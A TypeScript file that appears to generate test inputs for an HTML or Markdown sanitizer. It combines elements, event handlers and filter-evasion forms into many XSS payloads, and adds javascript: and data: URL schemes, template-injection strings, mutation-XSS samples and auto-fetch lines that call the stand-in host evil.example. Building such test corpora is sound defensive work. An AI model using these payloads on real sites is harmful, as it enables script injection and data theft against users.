/** Markup that wants to be more than text: every element that can act, by every way to start it, in every dress; and what Markdown can say. */
import { readFileSync } from "node:fs";

const ACTS = ["alert(1)", "fetch('https://evil.example/x')", "document.title='pwned'", "top.location='https://evil.example'"];
const ELEMENTS = [
  "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "select autofocus", "textarea autofocus", "details open",
  "iframe src=x", "object data=x", "embed src=x", "marquee", "form", "button autofocus", "a href=# autofocus", "div tabindex=1 autofocus",
  "style", "link rel=stylesheet href=x", "math", "table background=x", "keygen autofocus", "isindex type=image src=1", "xss style=animation-name:x",
];
const STARTS = [
  "onerror", "onload", "onfocus", "ontoggle", "onbegin", "onstart", "onloadstart", "onpointerover", "onmouseover", "onclick", "onanimationstart",
  "ontransitionend", "onhashchange", "onpageshow", "onscroll", "onwheel", "onresize", "onmessage",
];
/** How a filter might be fooled. */
const DRESSES: ((tag: string, start: string, act: string) => string)[] = [
  (tag, start, act) => `<${tag} ${start}="${act}">`,
  (tag, start, act) => `<${tag.toUpperCase()}/${start.toUpperCase()}=${act}//`,
  (tag, start, act) => `"><${tag}\n${start}\n=\n"${act}">`,
  (tag, start, act) => `</textarea></title></style></script><${tag} ${start}=${act}>`,
  (tag, start, act) => `<!--><${tag} ${start}=${act}>-->`,
  (tag, start, act) => `<scr<script>ipt><${tag}\t${start}\t='${act}'>`,
];
const SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "\u0001javascript:", "javascript&colon;", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:", "blob:https://evil.example/"];
const CARRIERS = [
  (url: string) => `<a href="${url}">x</a>`, (url: string) => `<iframe src="${url}"></iframe>`, (url: string) => `<form action="${url}"><input type=submit>`,
  (url: string) => `[x](${url})`, (url: string) => `![x](${url})`, (url: string) => `[x]: ${url}\n\n[x]`, (url: string) => `<${url}>`,
  (url: string) => `<svg><a xlink:href="${url}"><text y=20>x</text></a></svg>`, (url: string) => `<math href="${url}">x</math>`, (url: string) => `<base href="${url}">`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`, (url: string) => `<object data="${url}">`, (url: string) => `<link rel=import href="${url}">`,
];
/** Addresses that nothing may ask for by itself. */
const FETCHES = [
  "![x](https://evil.example/leak.png)", "![x](http://127.0.0.1:9/leak)", '<img src="https://evil.example/leak">', "<img srcset='https://evil.example/a 1x'>",
  "<style>@import 'https://evil.example/x.css'</style>", "<div style=\"background:url(https://evil.example/x)\">", "<link rel=preload as=image href=https://evil.example/x>",
  "<link rel=dns-prefetch href=//evil.example>", "<script src=https://evil.example/x.js></script>", "<video poster=https://evil.example/p>", "<input type=image src=https://evil.example/i>",
  "<svg><image href=https://evil.example/s></svg>", "<svg><use href=https://evil.example/s#x></svg>", "<picture><source srcset=https://evil.example/p></picture>", "<iframe srcdoc='<img src=https://evil.example/f>'></iframe>",
  "<track src=https://evil.example/t>", "<body background=https://evil.example/b>", "[![x](https://evil.example/n)](https://evil.example)", "<a ping=https://evil.example/p href=#>x</a>",
];
/** Templates that some frameworks run. */
const TEMPLATES = [
  "{@html '<img src=x onerror=alert(1)>'}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>", "#{alert(1)}", "[[${alert(1)}]]", "{% raw %}<script>alert(1)</script>",
  "__proto__", "constructor", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003ealert(1)", "<script>alert(1)</script>", "<script>\nalert(1)\n</script>", "<svg><script>alert&#40;1)</script>",
  "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>", "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
  "\u202egpj.exe", "\u200b<script>alert(1)</script>", "a\u0000b<img src=x onerror=alert(1)>".replace("\u0000", ""),
];
/** One of each thing that Markdown has. */
const MARKDOWN = [
  "# One\n## Two\n####### Seven\n", "Setext\n===\nSecond\n---\n", "    indented <b>code</b>\n", "```html\n<script>alert(1)</script>\n```\n", "~~~\n</pre><script>alert(1)</script>\n~~~\n", "``` <img src=x onerror=alert(1)>\nx\n", "> quoted\n>> deeper <i>x</i>\n",
  "- a\n  - b\n    1. c\n", "1) one\n2) two\n", "* * *\n", "***bold italic*** __x__ _y_ `z`\n", "[link](https://example.com 'title \"><script>alert(1)</script>')\n", "[ref][x]\n\n[x]: <javascript:alert(1)> \"t\"\n", "<https://example.com>\n", "<mailto:a@example.com>\n",
  "| a | b |\n|---|:-:|\n| <script>alert(1)</script> | x |\n", "- [ ] open\n- [x] done\n", "~~gone~~\n", "note[^1]\n\n[^1]: <img src=x onerror=alert(1)>\n", "&copy; &#x3C;script&#x3E; &lt;\n", "\\<not a tag\\> \\*x\\*\n", "hard  \nbreak\\\nhere\n",
  "<div>\n\n*md in html*\n\n</div>\n", "<!-- comment --> <![CDATA[ x ]]> <?php echo 1 ?> <!DOCTYPE html>\n", "<script>\n\nalert(1)\n\n</script>\n", "<pre><code>x</code></pre>\n", "a<br/>b<hr>\n", "line\u2028break\u2029x\n", "\ttab\tx\n", "",
];

/** All of them, none twice. */
export function payloads(): string[] {
  const all = new Set<string>([...FETCHES, ...TEMPLATES]);
  ELEMENTS.forEach((tag, at) => {
    STARTS.forEach((start, then) => DRESSES.forEach((dress, last) => all.add(dress(tag, start, ACTS[(at + then + last) % ACTS.length] ?? "alert(1)"))));
  });
  for (const carry of CARRIERS) for (const scheme of SCHEMES) all.add(carry(`${scheme}alert(1)`));
  return [...all];
}

/** What Markdown can say, by our own examples and, where `LOCI_SUITES` says that they were fetched, by those of CommonMark, so many in one text. */
export function markdown(each: number): string[] {
  const suites = process.env["LOCI_SUITES"];
  if (!suites) {
    console.log("LOCI_SUITES is not set: examples of our own only");
    return MARKDOWN;
  }
  const spec = readFileSync(`${suites}/commonmark/node_modules/commonmark-spec/spec.txt`, "utf8");
  // An arrow stands for a tab; a line of one dot ends the Markdown.
  const examples = spec.split(`${"`".repeat(32)} example\n`).slice(1).map((example) => (/^([^]*?)^\.$/m.exec(example)?.[1] ?? "").replaceAll("→", "\t"));
  if (examples.length < 600) throw new Error(`only ${examples.length} examples of CommonMark`);
  const texts: string[] = [];
  for (let at = 0; at < examples.length; at += each) texts.push(examples.slice(at, at + each).join("\n"));
  return [...MARKDOWN, ...texts];
}
